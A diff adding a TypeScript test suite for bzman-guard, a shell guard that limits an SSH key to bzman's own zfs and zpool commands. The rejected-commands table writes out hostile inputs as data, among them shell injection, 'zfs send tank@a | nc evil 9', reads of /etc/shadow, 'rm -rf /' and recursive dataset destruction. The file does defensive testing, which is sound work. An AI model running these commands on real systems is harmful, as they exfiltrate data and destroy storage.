@@ -1,0 +1,139 @@
+// The source guard, through `sh bzman-guard --check` and for real with a canary `zfs`: every
+// command shape bzman's argv builders produce is accepted; a table of hostile or wrong commands
+// is rejected and runs nothing. Runs under every POSIX shell present (dash, bash, busybox ash),
+// and shellcheck must find nothing. In CI each of those must be present.
+
+import { test } from "node:test";
+import assert from "node:assert/strict";
+import { spawnSync } from "node:child_process";
+import { existsSync, mkdtempSync, rmSync, writeFileSync, chmodSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { fileURLToPath } from "node:url";
+import { commandLine } from "../../server/ssh/ssh-runner.ts";
+import { destroySnapshotArgs, holdArgs, listArgs, probeArgs, releaseArgs, sendArgs, sendEstimateArgs, snapshotArgs } from "../../server/zfs/args.ts";
+import { MINIMAL_CAPABILITIES, type Capabilities } from "../../server/zfs/capabilities.ts";
+import { snaps } from "../helpers/snapshots.ts";
+
+const GUARD = fileURLToPath(new URL("../../source-hooks/bzman-guard", import.meta.url));
+const ARGS = ["--root", "tank", "--root", "data/vm", "--hook", "zfs set bzman:flushed=yes data/vm"];
+
+const SHELLS: Array<[string, string[]]> = [["dash", ["/usr/bin/dash"]], ["bash --posix", ["/usr/bin/bash", "--posix"]], ["busybox ash", ["/usr/bin/busybox", "ash"]]];
+const shells = SHELLS.filter(([name, argv]) => {
+  if (existsSync(argv[0]!)) return true;
+  if (process.env.CI) throw new Error(`${name} is missing; CI must install it (.ci/run)`);
+  process.stderr.write(`*** SKIPPING the guard under ${name}: not installed ***\n`);
+  return false;
+});
+
+function guard(shell: string[], command: string, extra: string[] = ["--check"], env: Record<string, string> = {}): { status: number | null; stdout: string; stderr: string } {
+  const r = spawnSync(shell[0]!, [...shell.slice(1), GUARD, ...ARGS, ...extra], { env: { SSH_ORIGINAL_COMMAND: command, ...env }, encoding: "utf8" });
+  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
+}
+
+// Every shape bzman sends, built by the same code that builds the real commands.
+const full: Capabilities = { listParsable: true, holds: true, bookmarks: true, resume: true, rawSend: true, receiveProperties: true, sendEstimate: true, zvols: true };
+const two = snaps("bzman_20261126T000000Z", "bzman_20261126T001000Z");
+const a = two[0]!;
+const c = two[1]!;
+const base = { sourceDataset: "tank/www", targetDataset: "backup/w/tank/www" };
+const accepted: string[][] = [
+  probeArgs(),
+  listArgs(["tank"], MINIMAL_CAPABILITIES, false), listArgs(["tank", "data/vm/disk0"], MINIMAL_CAPABILITIES, true),
+  listArgs(["tank"], full, false), listArgs(["tank", "data/vm"], full, true),
+  sendArgs({ ...base, kind: "full", to: a, intermediates: false }),
+  sendArgs({ ...base, kind: "incremental", from: a, to: c, intermediates: true }),
+  sendArgs({ ...base, kind: "incremental", from: a, to: c, intermediates: false }),
+  sendEstimateArgs({ ...base, kind: "incremental", from: a, to: c, intermediates: true }),
+  sendArgs({ ...base, sourceDataset: "tank", kind: "full", to: { ...a, name: "manual-2024" }, intermediates: false }),
+  snapshotArgs("tank", "bzman_20261126T000000Z", true), snapshotArgs("data/vm/disk0", "bzman_20261126T000000Z", false),
+  destroySnapshotArgs("tank/www", "bzman_20261126T000000Z", "bzman"),
+  holdArgs("bzman-common", "tank/www", "bzman_20261126T000000Z"), releaseArgs("bzman-common", "data/vm", "manual"),
+  ["zpool", "list", "-H", "-p", "-o", "name,health,size,allocated,free,capacity", "tank"], ["zpool", "status", "-x", "data"],
+  ["zfs", "set", "bzman:flushed=yes", "data/vm"],
+];
+
+const rejected: string[] = [
+  "", " ", "zfs  send tank@a", " zfs", "zfs ",
+  "zfs send tank@a; touch /tmp/x", "zfs send tank@a && touch /tmp/x", "zfs send tank@a | nc evil 9", "zfs send `touch /tmp/x`",
+  "zfs send $(touch /tmp/x)", "zfs send tank@a\ntouch /tmp/x", "zfs send tank@*", "zfs send tank@a > /etc/passwd", "zfs send tank@a < /etc/shadow",
+  "zfs send tank@a&", "zfs send 'tank@a'", "zfs send \"tank@a\"", "zfs send tank@a\\", "zfs send ${HOME}",
+  "zfs destroy -r tank", "zfs destroy tank", "zfs destroy tank/www", "zfs destroy tank/www@manual", "zfs destroy tank/www@bzman_1,bzman_2",
+  "zfs destroy tank/www@bzman_1%bzman_9", "zfs destroy -d tank/www@bzman_1", "zfs destroy other/x@bzman_1", "zfs destroy tank@bzman_",
+  "zfs send other@bzman_1", "zfs send tankx@bzman_1", "zfs send tank", "zfs send -R tank@bzman_1", "zfs send -p tank@bzman_1",
+  "zfs send -I tank/a@x other/b@y", "zfs send -I other@x tank@y", "zfs send -t 1-abc", "zfs send -- tank@a", "zfs send -o x tank@a",
+  "zfs receive tank/x", "zfs recv -F tank", "zfs set readonly=off tank", "zfs set bzman:flushed=yes tank",
+  "zfs rollback -r tank@a", "zfs rename tank/a tank/b", "zfs clone tank@a tank/b", "zfs create tank/x", "zfs mount -a", "zfs allow tank",
+  "zfs snapshot tank@manual", "zfs snapshot -r other@bzman_1", "zfs snapshot tank@bzman_1 tank/x@bzman_1", "zfs snapshot -o x=y tank@bzman_1",
+  "zfs hold other-tag tank@bzman_1", "zfs hold bzman-common other@bzman_1", "zfs release -r bzman-common tank@bzman_1",
+  "zfs get all tank", "zfs get -H -p -o name,property,value guid -r tank", "zfs get -H -p -o name,property,value guid,createtxg,creation,type,userrefs -r other",
+  "zfs get -H -p -o name,property,value guid,createtxg,creation,type,userrefs tank", "zfs list", "zfs list -H -p -o name -r tank",
+  "zfs list -H -p -o name,type,guid,createtxg,creation,userrefs -t all -r tank", "zfs list -H -p -o name,type,guid,createtxg,creation,userrefs -t filesystem,volume,snapshot -r /",
+  "zfs get -H -p -o name,property,value guid,createtxg,creation,type,userrefs -r ../etc",
+  "zpool destroy tank", "zpool list", "zpool list -H -p -o name,health,size,allocated,free,capacity other", "zpool status -x tank/www", "zpool import -a",
+  "sh -c id", "/usr/sbin/zfs send tank@a", "ZFS send tank@a", "zfs sеnd tank@a", "zfs send tank@а", "zfs send tank@a\u00a0x",
+  "rm -rf /", "scp -f /etc/shadow", "internal-sftp", "zfs " + "x".repeat(5000), "zfs set bzman:flushed=yes data/vm; id",
+];
+
+test("the guard passes shellcheck (POSIX sh)", () => {
+  const r = spawnSync("shellcheck", ["-s", "sh", GUARD], { encoding: "utf8" });
+  if (r.error) {
+    if (process.env.CI) throw new Error("shellcheck is missing; CI must install it");
+    process.stderr.write("*** SKIPPING shellcheck: not installed ***\n");
+    return;
+  }
+  assert.equal(r.status, 0, r.stdout);
+});
+
+for (const [name, shell] of shells) {
+  test(`guard under ${name}: every command bzman builds is accepted`, () => {
+    for (const argv of accepted) {
+      const line = commandLine(argv);
+      const r = guard(shell, line);
+      assert.equal(r.stdout.trim(), `ACCEPT ${line}`, `${line}\n${r.stderr}`);
+      assert.equal(r.status, 0);
+    }
+  });
+
+  test(`guard under ${name}: ${rejected.length} hostile or wrong commands are rejected`, () => {
+    assert.ok(rejected.length >= 40);
+    for (const line of rejected) {
+      const r = guard(shell, line);
+      assert.match(r.stdout, /^REJECT /, `accepted: ${JSON.stringify(line)}`);
+      assert.equal(r.status, 1, JSON.stringify(line));
+    }
+  });
+}
+
+test("for real: rejected commands run nothing (a canary zfs is never called); accepted ones run it", () => {
+  const dir = mkdtempSync(join(tmpdir(), "bzman-guard-"));
+  const canary = join(dir, "ran");
+  const fake = join(dir, "zfs");
+  writeFileSync(fake, `#!/bin/sh\nprintf '%s\\n' "$*" >> ${canary}\n`);
+  chmodSync(fake, 0o755);
+  const shell = shells[0]![1];
+  for (const line of rejected) {
+    const r = guard(shell, line, ["--zfs", fake, "--zpool", fake]);
+    assert.equal(r.status, 255, JSON.stringify(line));
+    assert.equal(r.stderr, "bzman-guard: rejected: this key may only run bzman's zfs commands\n", "one fixed message");
+    assert.ok(!existsSync(canary), `ran something for ${JSON.stringify(line)}`);
+    assert.ok(!existsSync("/tmp/x"), "no injected command ran");
+  }
+  const r = guard(shell, commandLine(sendArgs({ ...base, kind: "incremental", from: a, to: c, intermediates: true })), ["--zfs", fake]);
+  assert.equal(r.status, 0, r.stderr);
+  assert.ok(existsSync(canary), "the canary works");
+  rmSync(dir, { recursive: true });
+});
+
+test("--raw-only requires zfs send -w; --allow-resume admits send -t", () => {
+  const shell = shells[0]![1];
+  assert.match(guard(shell, "zfs send tank@bzman_1", ["--raw-only", "--check"]).stdout, /^REJECT raw sends only/);
+  assert.match(guard(shell, "zfs send -w tank@bzman_1", ["--raw-only", "--check"]).stdout, /^ACCEPT/);
+  assert.match(guard(shell, "zfs send -t 1-abc-def", ["--allow-resume", "--check"]).stdout, /^ACCEPT/);
+});
+
+test("a guard without --root refuses to start", () => {
+  const r = spawnSync("/bin/sh", [GUARD, "--check"], { env: { SSH_ORIGINAL_COMMAND: "zfs" }, encoding: "utf8" });
+  assert.equal(r.status, 2);
+  assert.match(r.stderr, /--root is required/);
+});
